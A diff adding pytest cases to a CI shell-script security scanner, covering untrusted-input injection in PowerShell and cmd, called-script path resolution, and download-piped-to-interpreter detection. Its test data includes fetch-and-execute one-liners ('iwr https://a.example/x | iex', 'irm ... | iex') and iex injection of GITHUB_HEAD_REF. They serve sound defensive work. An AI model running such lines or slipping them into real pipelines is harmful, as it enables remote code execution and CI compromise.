@@ -4,11 +4,12 @@ from __future__ import annotations
 
 import pytest
 
-from scanner.analysis.shell import downloads, secret_flow
+from scanner.analysis.shell import downloads, secret_flow, untrusted
 from scanner.analysis.shell.purposes import gate, lost_in_pipe, softened
 from scanner.core.location import Location, Piece, TextMap
 from scanner.core.subject import Command, Script
 from scanner.core.value import Scalar
+from scanner.model.derived.called_scripts import called_path
 from scanner.model.scripts import script
 from scanner.model.workspace import Workspace
 
@@ -139,3 +140,35 @@ def test_a_text_that_does_not_parse_is_told_at_its_line() -> None:
     assert [command.name for command in made.commands if command.name] == ["checkov", "a"]
     note, = workspace.notifications
     assert (note.kind, note.at.start_line) == ("shell-partly-read", 2)
+
+
+@pytest.mark.parametrize(
+    ("text", "shell", "held_"),
+    [
+        ("git checkout $env:GITHUB_HEAD_REF", "pwsh", False), ("iex \"git checkout $env:GITHUB_HEAD_REF\"", "pwsh", True),
+        ("& $env:GITHUB_HEAD_REF", "pwsh", True), ("git checkout \"%GITHUB_HEAD_REF%\"", "cmd", True), ("git checkout main", "cmd", False),
+        ("$b = git branch --show-current\nInvoke-Expression \"deploy $b\"", "pwsh", True),
+        ("$x[\"(\"] = git branch --show-current\n$y = (a $b)\niex $y", "pwsh", False),
+    ],
+)
+def test_text_of_strangers(text: str, shell: str, held_: bool) -> None:
+    assert bool([c for c in commands(text, shell) if untrusted.in_shell(c, {}, None).holds]) is held_  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("text", "shell", "path"),
+    [
+        (".\\ci\\build.ps1 -x", "pwsh", "./ci/build.ps1"), ("powershell -ExecutionPolicy Bypass -File .\\build.ps1", "cmd", "./build.ps1"),
+        ("& \"$env:CODEBUILD_SRC_DIR\\build.ps1\"", "pwsh", "build.ps1"), (". $PSScriptRoot\\a.ps1", "pwsh", "a.ps1"), ("call ci\\b.bat", "cmd", "ci/b.bat"),
+        ("pwsh ./a.ps1", "bash", "./a.ps1"), ("C:\\tools\\a.ps1", "pwsh", None), ("powershell -Command a", "cmd", None),
+    ],
+)
+def test_called_scripts(text: str, shell: str, path: str | None) -> None:
+    assert called_path(commands(text, shell)[0]) == path
+
+
+def test_powershell_text_in_a_shell_command() -> None:
+    fetch = commands("powershell -NoProfile -Command \"iwr https://a.example/x | iex\"", "bash")[1]
+    assert fetch.name == "iwr"
+    assert fetch.downstream is not None
+    assert held(downloads.piped_to_interpreter, "pwsh -c 'irm https://a.example/x | iex'", "bash") == ["irm"]
